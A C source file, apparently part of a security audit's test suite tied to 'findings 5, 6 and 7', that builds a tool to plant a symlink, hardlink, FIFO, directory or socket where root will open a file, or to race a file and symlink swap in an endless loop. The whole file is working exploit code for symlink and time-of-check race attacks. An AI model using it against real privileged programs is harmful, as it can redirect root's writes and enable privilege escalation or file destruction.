/*
 * Findings 5, 6 and 7. Puts something else where root is going to open a file.
 *   replace-file symlink|hardlink PATH TARGET
 *   replace-file fifo|directory|socket PATH -
 *   replace-file swap PATH TARGET        changes between a file and a symlink as fast as it can, until it is killed
 * What comes of it is for who looks at the target.
 */
#include "attack.h"

int main(int argc, char **argv)
{
    if (argc != 4)
        errno = EINVAL, broken("replace-file KIND PATH TARGET");
    const char *kind = argv[1], *path = argv[2], *target = argv[3];
    unlink(path);
    if (strcmp(kind, "symlink") == 0) {
        if (symlink(target, path) != 0)
            broken("symlink %s", path);
    } else if (strcmp(kind, "hardlink") == 0) {
        if (link(target, path) != 0 && errno != EPERM && errno != EACCES)
            broken("link %s", path);
    } else if (strcmp(kind, "fifo") == 0) {
        if (mkfifo(path, 0666) != 0)
            broken("mkfifo %s", path);
    } else if (strcmp(kind, "directory") == 0) {
        if (mkdir(path, 0777) != 0)
            broken("mkdir %s", path);
    } else if (strcmp(kind, "socket") == 0) {
        struct sockaddr_un at = unix_address(path);
        if (bind(socket(AF_UNIX, SOCK_STREAM, 0), (struct sockaddr *)&at, sizeof at) != 0)
            broken("bind %s", path);
    } else if (strcmp(kind, "swap") == 0) {
        char link_path[256], file_path[256];
        snprintf(link_path, sizeof link_path, "%s.link", path);
        snprintf(file_path, sizeof file_path, "%s.file", path);
        printf("swapping\n");
        fflush(stdout);
        for (;;) {
            int fd = open(file_path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
            close(fd);
            unlink(link_path);
            if (fd < 0 || symlink(target, link_path) != 0 || rename(file_path, path) != 0 || rename(link_path, path) != 0)
                broken("swap %s", path);
        }
    } else
        errno = EINVAL, broken("%s", kind);
    failed("%s is a %s", path, kind);
}
